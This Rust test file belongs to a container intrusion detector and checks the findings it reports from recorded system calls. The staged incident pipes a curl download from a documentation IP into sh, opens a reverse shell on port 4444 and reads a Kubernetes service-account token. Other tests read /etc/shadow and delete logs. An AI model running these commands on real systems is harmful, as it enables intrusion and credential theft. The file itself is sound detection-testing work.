use afterimage_format::{EventFlags, FieldTag, OwnedEvent, layout::exec};

use super::*;
use crate::testing::{Build, call, completed, exec as run, exit, fork, submitted, task};

const BOX: ContainerUid = ContainerUid(7);
const CWD: u64 = 0xffff_ff9c;

fn story(events: &[OwnedEvent]) -> Vec<Finding> {
    let (mut world, mut story) = (World::new(), Story::new());
    let mut out = Vec::new();
    for event in events {
        event.with(|e| {
            world.apply(BOX, e);
            out.extend(story.apply(&world, BOX, e));
        });
    }
    out
}

fn lines(events: &[OwnedEvent]) -> Vec<String> {
    story(events).iter().map(|f| format!("{} {}: {}", f.severity.as_str(), f.title, f.detail)).collect()
}

fn write_file(time: u64, pid: u32, fd: u64, path: &str, bytes: i64) -> [OwnedEvent; 3] {
    [
        call(time, pid, "openat", &[CWD, 0, 0o1101, 0o600], fd.cast_signed()).with_kpath(path),
        call(time + 1, pid, "write", &[fd, 0, 0], bytes),
        call(time + 2, pid, "close", &[fd], 0),
    ]
}

/// The staged incident of the design, event by event.
fn incident() -> Vec<OwnedEvent> {
    let mut events = vec![
        run(10, 1, "/usr/bin/python3", &["python3", "etl.py"]).with_field(FieldTag::COMM, b"python3"),
        fork(20, 1, 2),
        run(21, 2, "/bin/sh", &["sh", "-c", "curl -s http://203.0.113.9/x | sh"])
            .with_field(FieldTag::COMM, b"sh"),
        fork(30, 2, 3),
        run(31, 3, "/usr/bin/curl", &["curl", "-o", "/tmp/.x"]).with_field(FieldTag::COMM, b"curl"),
        call(32, 3, "socket", &[2, 1, 0], 5),
        call(33, 3, "connect", &[5, 0, 16], 0).with_address(FieldTag::SOCKADDR, "203.0.113.9:80"),
    ];
    events.extend(write_file(40, 3, 6, "/tmp/.x", 48_128));
    events.extend([
        exit(45, 3, 0),
        call(50, 2, "fchmodat", &[CWD, 0, 0o755], 0).with_path("/tmp/.x"),
        fork(60, 2, 4),
        run(61, 4, "/tmp/.x", &["/tmp/.x", "-q"])
            .with_field(FieldTag::COMM, b".x")
            .with_number(exec::EXE_FLAGS, 1),
        call(70, 4, "socket", &[2, 1, 0], 4),
        call(71, 4, "connect", &[4, 0, 16], 0).with_address(FieldTag::SOCKADDR, "203.0.113.9:4444"),
        fork(80, 4, 5),
        call(81, 5, "dup2", &[4, 0], 0),
        call(82, 5, "dup2", &[4, 1], 1),
        call(83, 5, "dup2", &[4, 2], 2),
        run(84, 5, "/bin/sh", &["sh", "-i"]).with_field(FieldTag::COMM, b"sh"),
        fork(90, 5, 6),
        run(91, 6, "/bin/cat", &["cat", "token"]).with_field(FieldTag::COMM, b"cat"),
        call(91, 6, "openat", &[CWD, 0, 0o200_000, 0], 3)
            .with_kpath("/run/secrets/kubernetes.io/serviceaccount"),
        call(92, 6, "openat", &[CWD, 0, 0, 0], 3)
            .with_kpath("/run/secrets/kubernetes.io/serviceaccount/token"),
        fork(100, 5, 7),
        run(101, 7, "/bin/rm", &["rm", "-f", "/tmp/.x"]).with_field(FieldTag::COMM, b"rm"),
        call(102, 7, "unlinkat", &[CWD, 0, 0], 0).with_path("/tmp/.x"),
    ]);
    events
}

#[test]
fn the_staged_incident_is_told_from_download_to_clean_up() {
    assert_eq!(
        lines(&incident()),
        [
            "info program executed: /usr/bin/python3 etl.py",
            "info program executed: /bin/sh -c \"curl -s http://203.0.113.9/x | sh\"",
            "info program executed: /usr/bin/curl -o /tmp/.x",
            "notice connection made: tcp 203.0.113.9:80 by 3 curl",
            "notice file downloaded: /tmp/.x, 48128 B, by 3 curl",
            "warning file made executable: /tmp/.x by 2 sh",
            "critical written, then executed: /tmp/.x -q [upper layer]: new file, 48128 B written by 3 curl",
            "critical connection to an unusual port: tcp 203.0.113.9:4444 by 4 .x",
            "critical reverse shell: /bin/sh -i: standard input and output are tcp 203.0.113.9:4444",
            "info command on a connection: /bin/cat token",
            "critical service account token read: /run/secrets/kubernetes.io/serviceaccount/token by 6 cat",
            "info command on a connection: /bin/rm -f /tmp/.x",
            "critical executed program deleted: /tmp/.x by 7 rm",
        ]
    );
    let told = story(&incident());
    let shell = told.iter().find(|f| f.title == "reverse shell").unwrap();
    assert_eq!(
        (shell.time, shell.task, shell.attack, shell.code),
        (BootNanos(84), task(5), "T1059.004", EventCode::EXEC)
    );
}

#[test]
fn processes_are_told_by_the_ids_that_lists_have_them_under() {
    let told = lines(&[
        run(10, 31_412, "/bin/x", &["x"]).with_number(exec::VPID, 12),
        call(11, 31_412, "openat", &[CWD, 0, 0, 0], 3).with_kpath("/etc/shadow"),
    ]);
    assert_eq!(told[1..], ["critical password hashes read: /etc/shadow by 31412 x"]);
}

#[test]
fn set_up_and_host_are_no_part_of_the_story() {
    let mut setup =
        run(10, 1, "/proc/self/exe", &["runc", "init"]).with_number(exec::EXE_FLAGS, exec::EXE_MEMFD);
    setup.flags = EventFlags::SETUP;
    assert!(story(&[setup]).is_empty());
    let (mut world, mut story) = (World::new(), Story::new());
    run(10, 1, "/bin/sh", &["sh"]).with(|e| {
        world.apply(ContainerUid::HOST, e);
        assert_eq!(story.apply(&world, ContainerUid::HOST, e), None);
    });
}

fn connect(time: u64, peer: &str, ret: i64) -> OwnedEvent {
    call(time, 1, "connect", &[5, 0, 16], ret).with_address(FieldTag::SOCKADDR, peer)
}

#[test]
fn who_tries_many_doors_is_told_once() {
    let client = |events: Vec<OwnedEvent>| {
        let mut all = vec![run(1, 1, "/bin/nc", &["nc"]).with_field(FieldTag::COMM, b"nc")];
        all.extend(events);
        lines(&all)[1..].to_vec()
    };
    let ports = |ret, many: u64| {
        (0..many)
            .map(move |port| connect(10 + port, &format!("10.0.0.9:{}", 20 + port), ret))
            .collect::<Vec<_>>()
    };
    assert_eq!(client(ports(-111, 7)), [] as [&str; 0]);
    assert_eq!(client(ports(-111, 12)), ["warning many ports tried: 8 of 10.0.0.9, 20 to 27, by 1 nc"]);
    // Of those that do not wait it is not known what became of them: each is told, and at many more that they are many.
    let begun = client(ports(-115, 40));
    let many: Vec<&String> = begun.iter().filter(|line| line.contains("many")).collect();
    assert_eq!(many, ["warning many ports tried: 32 of 10.0.0.9, 20 to 51, by 1 nc"]);
    // The same port of the same host again and again is who waits for a service.
    assert_eq!(client((0..50).map(|n| connect(10 + n, "10.0.0.9:5432", -111)).collect()), [] as [&str; 0]);
    let hosts: Vec<_> = (1..20).map(|n| connect(10 + n, &format!("10.0.0.{n}:22"), -113)).collect();
    assert_eq!(client(hosts), ["warning many hosts tried: port 22 of 8, the last of them 10.0.0.8, by 1 nc"]);
}

#[test]
fn what_a_client_sends_is_told_where_it_is_much() {
    let talk = |call_sent: &[(&str, i64)], made: bool| {
        let mut events = vec![
            run(1, 1, "/usr/bin/python3", &["python3"]).with_field(FieldTag::COMM, b"python3"),
            call(2, 1, "socket", &[2, 1, 0], 5),
        ];
        if made {
            events.push(connect(3, "203.0.113.9:443", 0));
        } else {
            events.push(
                call(3, 1, "accept4", &[5, 0, 0, 0], 5).with_address(FieldTag::SOCKADDR, "203.0.113.9:443"),
            );
        }
        events.extend(
            call_sent.iter().zip(4..).map(|((name, moved), at)| call(at, 1, name, &[5, 0, 0], *moved)),
        );
        let told = lines(&events);
        told.into_iter().filter(|line| line.contains("much")).collect::<Vec<_>>()
    };
    let much = "notice much sent: over 1 MiB to tcp 203.0.113.9:443 by 1 python3";
    assert_eq!(talk(&[("write", 1 << 19), ("sendto", 1 << 19), ("write", 1 << 19)], true), [much]);
    assert_eq!(talk(&[("write", (1 << 20) - 1)], true), [] as [&str; 0]);
    // Who answers sends much, and who is answered more than it asked has downloaded.
    assert_eq!(talk(&[("write", 1 << 21)], false), [] as [&str; 0]);
    assert_eq!(talk(&[("read", 1 << 22), ("write", 1 << 21)], true), [] as [&str; 0]);
}

/// A connection that no `connect` made, and a secret under a name of its own.
#[test]
fn a_fast_open_is_a_connection_and_a_link_to_a_secret_is_told() {
    let told = lines(&[
        run(1, 1, "/bin/x", &["x"]).with_field(FieldTag::COMM, b"x"),
        call(2, 1, "socket", &[2, 1, 0], 5),
        call(3, 1, "sendto", &[5, 0, 21, 0x2000_0000, 0, 16], 21)
            .with_address(FieldTag::SOCKADDR, "203.0.113.9:4444"),
        call(4, 1, "link", &[0, 0], 0).with_path("/etc/shadow"),
        call(5, 1, "link", &[0, 0], 0).with_path("/tmp/a"),
    ]);
    assert_eq!(
        told[1..],
        ["notice connection made: tcp 203.0.113.9:4444 by 1 x", "critical secret linked: /etc/shadow by 1 x"]
    );
}

/// Busybox's wget is one, and what it leaves open at its end is written all the same.
#[test]
fn a_download_is_told_of_every_downloader_also_at_its_end() {
    let told = |argv: &[&str], closes: bool| {
        let mut events = vec![run(1, 1, "/bin/busybox", argv).with_field(FieldTag::COMM, b"busybox")];
        events.extend(write_file(10, 1, 6, "/tmp/x", 48).into_iter().take(if closes { 3 } else { 2 }));
        events.push(exit(20, 1, 0));
        lines(&events).into_iter().filter(|line| line.contains("downloaded")).collect::<Vec<_>>()
    };
    let one = ["notice file downloaded: /tmp/x, 48 B, by 1 busybox"];
    for closes in [true, false] {
        assert_eq!(told(&["busybox", "wget", "-O", "/tmp/x"], closes), one);
        assert_eq!(told(&["wget", "-O", "/tmp/x"], closes), one);
        assert_eq!(told(&["busybox", "cp", "/a", "/tmp/x"], closes), [] as [&str; 0]);
    }
}

#[test]
fn ordinary_work_is_told_without_alarm() {
    let mut events = vec![
        run(10, 1, "/usr/bin/gcc", &["gcc", "-c", "a.c"]),
        call(11, 1, "openat", &[CWD, 0, 0, 0], 3).with_kpath("/etc/passwd"),
        call(12, 1, "openat", &[CWD, 0, 0, 0], -2).with_path("/etc/shadow"),
        call(13, 1, "socket", &[2, 2, 0], 4),
        call(14, 1, "connect", &[4, 0, 16], 0).with_address(FieldTag::SOCKADDR, "8.8.8.8:53"),
        call(15, 1, "prctl", &[15, 0], 0).with_field(FieldTag::DATA, b"worker-1\0"),
        call(16, 1, "clone", &[0x11], 2),
        call(17, 1, "socket", &[2, 3, 1], 5),
    ];
    events.extend(write_file(20, 1, 5, "/src/a.o", 100));
    let worst = story(&events).iter().map(|f| f.severity).max();
    assert_eq!(worst, Some(Severity::Info));
}

#[test]
fn images_from_memory_and_names_of_kernel_threads_are_seen() {
    let memfd = run(10, 1, "/memfd:x", &["[kworker/u8:3]"])
        .with_number(exec::EXE_FLAGS, exec::EXE_MEMFD | exec::EXE_UNLINKED);
    assert_eq!(
        lines(&[memfd]),
        ["critical program executed from memory: /memfd:x [as [kworker/u8:3]] [memfd, deleted]"]
    );
    let disguised = run(10, 1, "/usr/bin/x", &["[kthreadd]"]);
    assert_eq!(
        lines(&[disguised]),
        ["warning program named like a kernel thread: /usr/bin/x calls itself [kthreadd]"]
    );
}

#[test]
fn a_download_piped_into_a_shell_is_seen_whichever_starts_last() {
    let pipe = |first: OwnedEvent, second: OwnedEvent| {
        vec![
            run(10, 1, "/usr/bin/python3", &["python3"]),
            call(20, 1, "pipe", &[0], 0).with_fds([3, 4]),
            fork(21, 1, 2),
            fork(22, 1, 3),
            call(23, 2, "dup2", &[4, 1], 1),
            call(24, 3, "dup2", &[3, 0], 0),
            first,
            second,
        ]
    };
    let curl = || run(30, 2, "/usr/bin/curl", &["curl", "-s", "http://x"]);
    let shell = || run(31, 3, "/bin/sh", &["sh"]);
    for events in [pipe(curl(), shell()), pipe(shell(), curl())] {
        let told = lines(&events);
        assert!(
            told.iter()
                .any(|l| l
                    .starts_with("warning download piped into a shell: /usr/bin/curl -s http://x | /bin/sh")),
            "{told:?}"
        );
    }
}

#[test]
fn connections_through_a_ring_are_told() {
    const CONNECT: u64 = 16;
    let told = lines(&[
        run(10, 1, "/bin/x", &["x"]).with_field(FieldTag::COMM, b"x"),
        call(11, 1, "socket", &[2, 1, 0], 3),
        submitted(12, 1, CONNECT, 1, 3),
        completed(13, 1, CONNECT, 1, 0),
        submitted(14, 1, CONNECT, 2, 9),
        completed(15, 1, CONNECT, 2, -111),
    ]);
    assert_eq!(told[1..], ["notice connection made: tcp to an unknown peer through io_uring by 1 x"]);
}

#[test]
fn attempts_that_seccomp_skipped_are_told_as_denied() {
    let denied =
        |event: OwnedEvent| OwnedEvent { flags: EventFlags::SECCOMP.with(EventFlags::DENIED), ..event };
    let events = [
        run(10, 1, "/bin/x", &["x"]).with_field(FieldTag::COMM, b"x"),
        denied(
            call(11, 1, "mount", &[0, 0, 0, 0, 0], -1)
                .with_path("/dev/sda")
                .with_field(FieldTag::PATH2, b"/mnt"),
        ),
        denied(call(12, 1, "openat", &[CWD, 0, 0, 0], -1).with_path("/etc/shadow")),
        denied(call(13, 1, "setuid", &[0], -1)),
    ];
    let told = lines(&events);
    assert_eq!(
        told[told.len() - 2..],
        [
            "notice file system mounted: /dev/sda on /mnt by 1 x (denied by seccomp)",
            "notice password hashes read: /etc/shadow by 1 x (denied by seccomp)",
        ]
    );
}

#[test]
fn attempts_that_were_refused_are_told_as_such() {
    let told = lines(&[
        run(10, 1, "/bin/x", &["x"]),
        call(11, 1, "openat", &[CWD, 0, 0, 0], -13).with_path("/etc/shadow"),
        call(12, 1, "mount", &[0, 0, 0, 0, 0], -1).with_path("/dev/sda").with_field(FieldTag::PATH2, b"/mnt"),
        call(13, 1, "unshare", &[0x1000_0000], -1),
        call(14, 1, "bpf", &[5, 0, 128], -1),
        call(15, 1, "bpf", &[5, 0, 128], -1),
    ]);
    assert_eq!(
        told[1..],
        [
            "notice password hashes read: /etc/shadow by 1 x (refused: EACCES)",
            "notice file system mounted: /dev/sda on /mnt by 1 x (refused: EPERM)",
            "notice namespaces made: CLONE_NEWUSER by 1 x (refused: EPERM)",
            "notice eBPF program loaded: BPF_PROG_LOAD by 1 x (refused: EPERM)",
        ]
    );
}

#[test]
fn ebpf_objects_that_are_opened_by_number_and_changed_are_told() {
    let bpf = |time, command, fd: u32, ret| {
        let mut attributes = [0; 64];
        let at = if command == 26 { 36 } else { 0 };
        attributes[at..at + 4].copy_from_slice(&fd.to_le_bytes());
        call(time, 1, "bpf", &[command, 0, 64], ret).with_field(FieldTag::DATA, &attributes)
    };
    let told = lines(&[
        run(10, 1, "/bin/x", &["x"]),
        // Its own.
        bpf(11, 0, 0, 3),
        bpf(12, 2, 3, 0),
        // Those of others.
        bpf(13, 14, 77, 4),
        bpf(14, 14, 78, 5),
        bpf(15, 1, 4, 0),
        bpf(16, 3, 4, -1),
        bpf(17, 26, 5, 0),
        bpf(18, 30, 9, 6),
        bpf(19, 34, 6, -95),
        // A map of its own has the number of one that was of others.
        call(20, 1, "close", &[5], 0),
        bpf(21, 0, 0, 5),
        bpf(22, 2, 5, 0),
    ]);
    let changed = "eBPF object changed that was opened by its number";
    assert_eq!(
        told[1..],
        [
            "warning eBPF object opened by its number: BPF_MAP_GET_FD_BY_ID by 1 x".to_owned(),
            format!("notice {changed}: BPF_MAP_DELETE_ELEM by 1 x (refused: EPERM)"),
            format!("critical {changed}: BPF_MAP_UPDATE_BATCH by 1 x"),
            "warning eBPF object opened by its number: BPF_LINK_GET_FD_BY_ID by 1 x".to_owned(),
            format!("notice {changed}: BPF_LINK_DETACH by 1 x (refused: EOPNOTSUPP)"),
        ]
    );
}

/// It was told of `/proc/self/fd/5`, which nobody can look up later.
#[test]
fn what_is_done_through_a_descriptors_name_is_done_to_its_file() {
    let mut events = vec![run(10, 1, "/bin/x", &["x"])];
    events.extend(write_file(20, 1, 5, "/dev/shm/wl5", 8));
    events.extend([
        call(30, 1, "openat", &[CWD, 0, 0, 0], 5).with_kpath("/dev/shm/wl5"),
        call(31, 1, "chmod", &[0, 0o755], 0).with_path("/proc/self/fd/5"),
        call(32, 1, "openat", &[CWD, 0, 0o200_000, 0], 6).with_kpath("/var/log"),
        call(33, 1, "unlink", &[0], 0).with_path("/dev/fd/6/auth.log"),
        call(34, 1, "unlink", &[0], -2).with_path("/proc/self/fd/5"),
        call(35, 1, "chmod", &[0, 0o755], 0).with_path("/proc/self/fd/77"),
    ]);
    assert_eq!(
        lines(&events)[1..],
        [
            "warning file made executable: /dev/shm/wl5 (claimed /proc/self/fd/5) by 1 x",
            "warning log or history deleted: /var/log/auth.log (claimed /dev/fd/6/auth.log) by 1 x",
            "notice file made executable: /proc/self/fd/77 by 1 x",
        ]
    );
}

#[test]
fn what_goes_through_a_ring_is_seen_too() {
    let request = |time, code, operation, ret| OwnedEvent {
        code,
        args: vec![operation, 0, CWD],
        ..call(time, 1, "getpid", &[], ret)
    };
    let told = lines(&[
        run(10, 1, "/tmp/x", &["x"]),
        request(11, EventCode::URING_SUBMIT, 18, 0).with_path("/etc/shadow"),
        request(12, EventCode::URING_COMPLETE, 18, 5).with_kpath("/etc/shadow"),
        request(13, EventCode::URING_SUBMIT, 36, 0).with_path("/tmp/x"),
    ]);
    assert_eq!(
        told[1..],
        [
            "critical password hashes read: /etc/shadow by 1 x",
            "warning executed program deleted: /tmp/x by 1 x",
        ]
    );
}

#[test]
fn rights_gained_are_seen() {
    let told = lines(&[
        run(10, 1, "/bin/x", &["x"]).with_number(exec::UID, 1000).with_number(exec::EUID, 1000),
        call(11, 1, "setuid", &[0], 0),
        run(12, 2, "/usr/bin/su", &["su"]).with_number(exec::UID, 1000).with_number(exec::EUID, 0),
        call(13, 2, "chmod", &[0, 0o4755], 0).with_path("/tmp/sh"),
        call(14, 2, "ptrace", &[16, 77, 0, 0], 0),
        call(15, 2, "ptrace", &[0, 0, 0, 0], 0),
    ]);
    assert_eq!(
        told[1..],
        [
            "warning user became root: 1 x",
            "warning set-user-id root program executed: /usr/bin/su",
            "critical set-user-id program made: /tmp/sh by 2 su",
            "warning other process taken over: PTRACE_ATTACH of 77:pid not known by 2 su",
        ]
    );
}

#[test]
fn hostile_names_are_escaped_and_a_flood_is_bounded() {
    let told = lines(&[run(10, 1, "/tmp/\x1b[2J\u{202e}", &["x"])]);
    assert_eq!(told, [r"warning program in a scratch directory executed: /tmp/\x1b[2J\u{202e} [as x]"]);
    let (mut world, mut story) = (World::new(), Story::new());
    let mut told = 0;
    for n in 0..12_000_u64 {
        let event = call(n, 1, "connect", &[3, 0, 16], 0)
            .with_address(FieldTag::SOCKADDR, &format!("10.{}.{}.1:80", n / 250, n % 250));
        event.with(|e| {
            world.apply(BOX, e);
            told += usize::from(story.apply(&world, BOX, e).is_some());
        });
    }
    assert_eq!(told, MOST_FINDINGS);
    assert_eq!(story.dropped(BOX), 2000);
}

#[test]
fn a_program_that_was_written_is_known_wherever_its_directory_goes() {
    let mut events = vec![run(1, 1, "/bin/sh", &["sh"]).with_field(FieldTag::COMM, b"sh")];
    events.extend(write_file(10, 1, 6, "/tmp/d1/im", 682_696));
    events.extend([
        call(20, 1, "rename", &[0, 0], 0).with_path("/tmp/d1").with_field(FieldTag::PATH2, b"/tmp/d2"),
        fork(30, 1, 2),
        run(31, 2, "/tmp/d2/im", &["im"]).with_number(exec::EXE_FLAGS, exec::EXE_UPPER_LAYER),
        call(40, 1, "rename", &[0, 0], 0).with_path("/tmp/d2").with_field(FieldTag::PATH2, b"/tmp/d3"),
        call(41, 1, "unlink", &[0], 0).with_path("/tmp/d3/im"),
    ]);
    let told = lines(&events);
    assert!(told.iter().any(|line| line.contains("written, then executed: /tmp/d2/im")), "{told:?}");
    assert!(told.iter().any(|line| line.contains("executed program deleted: /tmp/d3/im")), "{told:?}");
}

/// A secret that is open was given a name by its descriptor, and nobody told of it: the link's source was found twice, in two ways.
#[test]
fn a_secret_is_linked_by_its_descriptor_too() {
    let told = lines(&[
        run(1, 1, "/bin/x", &["x"]),
        call(2, 1, "openat", &[CWD, 0, 0, 0], 5).with_kpath("/etc/shadow"),
        call(3, 1, "linkat", &[5, 0, CWD, 0, 0x1000], 0).with_path("").with_field(FieldTag::PATH2, b"/tmp/a"),
    ]);
    assert_eq!(
        told.last().map(String::as_str),
        Some("critical secret linked: /etc/shadow by 1 x"),
        "{told:?}"
    );
}

/// What is told of programs that were written before they were executed.
fn told_of_written(events: &[OwnedEvent]) -> Vec<String> {
    let title = "written, then executed: ";
    let told = lines(events);
    told.iter().filter_map(|line| Some(line.split_once(title)?.1.trim_end().to_owned())).collect()
}

#[test]
fn a_file_in_the_place_of_a_deleted_one_is_another_one() {
    let events = [
        write_file(10, 1, 5, "/tmp/a", 3).to_vec(),
        vec![run(14, 2, "/tmp/a", &["a"]), call(15, 1, "unlink", &[0], 0).with_path("/tmp/a")],
        write_file(20, 3, 5, "/tmp/a", 100).to_vec(),
        // Nobody executed this one.
        vec![call(29, 4, "unlink", &[0], 0).with_path("/tmp/a")],
        write_file(30, 5, 5, "/tmp/a", 7).to_vec(),
        vec![run(40, 6, "/tmp/a", &["a", "2"])],
    ]
    .concat();
    assert_eq!(
        told_of_written(&events),
        ["/tmp/a: new file, 3 B written by 1", "/tmp/a 2: new file, 7 B written by 5"]
    );
    let deleted = lines(&events).into_iter().filter(|line| line.contains("executed program deleted"));
    assert_eq!(deleted.collect::<Vec<_>>(), ["warning executed program deleted: /tmp/a by 1 "]);
    // One of the image comes back to that place.
    let events = [
        write_file(10, 1, 5, "/opt/a", 3).to_vec(),
        vec![
            call(14, 1, "rename", &[0, 0], 0).with_path("/opt/b").with_field(FieldTag::PATH2, b"/opt/a"),
            run(15, 1, "/opt/a", &["a"]),
        ],
    ];
    assert_eq!(lines(&events.concat()), ["info program executed: /opt/a"]);
}

#[test]
fn who_wrote_a_deleted_program_that_is_executed_all_the_same_is_told() {
    let mut events = write_file(10, 1, 5, "/tmp/a", 3).to_vec();
    events.extend([
        call(14, 1, "unlink", &[0], 0).with_path("/tmp/a"),
        run(15, 1, "/tmp/a", &["a"]).with_number(exec::EXE_FLAGS, exec::EXE_UNLINKED),
    ]);
    assert_eq!(told_of_written(&events), ["/tmp/a [deleted]: new file, 3 B written by 1"]);
}

#[test]
fn a_file_that_is_written_anew_is_who_wrote_it_lasts() {
    let curl = run(5, 2, "/usr/bin/curl", &["curl"]).with_field(FieldTag::COMM, b"curl");
    let events = [
        write_file(10, 1, 5, "/tmp/a", 3).to_vec(),
        vec![curl],
        write_file(20, 2, 5, "/tmp/a", 100).to_vec(),
        vec![run(30, 3, "/tmp/a", &["a"])],
    ]
    .concat();
    assert_eq!(told_of_written(&events), ["/tmp/a: new file, 100 B written by 2 curl"]);
    let downloaded = "notice file downloaded: /tmp/a, 100 B, by 2 curl".to_owned();
    assert!(lines(&events).contains(&downloaded), "{:?}", lines(&events));
}

#[test]
fn files_that_exchange_their_names_take_along_who_wrote_them() {
    let exchange = |time, one: &str, other: &str| {
        let event = call(time, 1, "renameat2", &[CWD, 0, CWD, 0, 2], 0).with_path(one);
        event.with_field(FieldTag::PATH2, other.as_bytes())
    };
    let events = [
        write_file(10, 1, 5, "/tmp/a", 3).to_vec(),
        write_file(20, 2, 5, "/tmp/b", 4).to_vec(),
        write_file(30, 3, 5, "/tmp/d1/p", 5).to_vec(),
        write_file(40, 4, 5, "/tmp/d2/p", 6).to_vec(),
        vec![exchange(50, "/tmp/a", "/tmp/b"), exchange(51, "/tmp/d1", "/tmp/d2")],
        vec![run(60, 9, "/tmp/a", &["a"]), run(61, 9, "/tmp/b", &["b"])],
        vec![run(62, 9, "/tmp/d1/p", &["p"]), run(63, 9, "/tmp/d2/p", &["p"])],
    ];
    assert_eq!(
        told_of_written(&events.concat()),
        [
            "/tmp/a: new file, 4 B written by 2",
            "/tmp/b: new file, 3 B written by 1",
            "/tmp/d1/p: new file, 6 B written by 4",
            "/tmp/d2/p: new file, 5 B written by 3",
        ]
    );
}

#[test]
fn a_name_that_is_renamed_to_itself_is_not_lost() {
    let mut events = write_file(10, 1, 5, "/tmp/a", 3).to_vec();
    events.extend([
        call(14, 1, "rename", &[0, 0], 0).with_path("/tmp/a").with_field(FieldTag::PATH2, b"/tmp/a"),
        run(15, 1, "/tmp/a", &["a"]),
    ]);
    assert_eq!(told_of_written(&events), ["/tmp/a: new file, 3 B written by 1"]);
}

#[test]
fn a_script_is_known_by_its_path_whatever_it_was_called() {
    let script = |time, name: &str| {
        let event =
            run(time, 2, "/bin/busybox", &["sh", name]).with_number(exec::EXE_FLAGS, exec::EXE_SCRIPT);
        event.with_field(FieldTag::FILENAME, name.as_bytes())
    };
    let mut events = vec![call(5, 2, "chdir", &[0], 0).with_path("/tmp")];
    events.extend(write_file(10, 1, 5, "/tmp/x.sh", 3));
    events.extend([script(20, "./x.sh"), call(30, 2, "unlink", &[0], 0).with_path("/tmp/x.sh")]);
    let told = lines(&events);
    assert!(told.iter().any(|line| line.starts_with("warning written, then executed: ")), "{told:?}");
    assert!(
        told.contains(&"warning executed program deleted: /tmp/x.sh by 2 busybox".to_owned()),
        "{told:?}"
    );
}

#[test]
fn a_file_that_was_made_without_a_name_is_new() {
    let mut events = vec![
        call(10, 1, "openat", &[CWD, 0, 0o20_200_002, 0o700], 5).with_kpath("/tmp/#17"),
        call(11, 1, "write", &[5, 0, 0], 9),
    ];
    let link = call(12, 1, "linkat", &[CWD, 0, CWD, 0, 0x400], 0).with_path("/proc/self/fd/5");
    events.extend([link.with_field(FieldTag::PATH2, b"/tmp/a"), run(15, 1, "/tmp/a", &["a"])]);
    assert_eq!(told_of_written(&events), ["/tmp/a: new file, 9 B written by 1"]);
}
